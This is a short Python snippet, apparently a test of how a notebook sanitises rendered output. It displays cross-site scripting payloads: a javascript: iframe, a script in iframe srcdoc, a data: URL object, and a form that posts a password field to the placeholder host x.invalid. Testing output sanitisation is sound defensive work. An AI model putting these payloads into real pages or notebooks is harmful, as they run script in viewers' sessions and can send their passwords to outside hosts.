# Shows frames, objects and forms that load a page into the staff's, or send what they type elsewhere.
from IPython.display import HTML, IFrame, display

display(IFrame("javascript:alert(47113)", 100, 100))
display(HTML("<iframe srcdoc='<script>alert(47113)</script>'></iframe><object data='data:text/html,47113'></object>"))
display(HTML("<form action='http://x.invalid/47113'><input name=password><button formaction=javascript:alert(47113)>"))
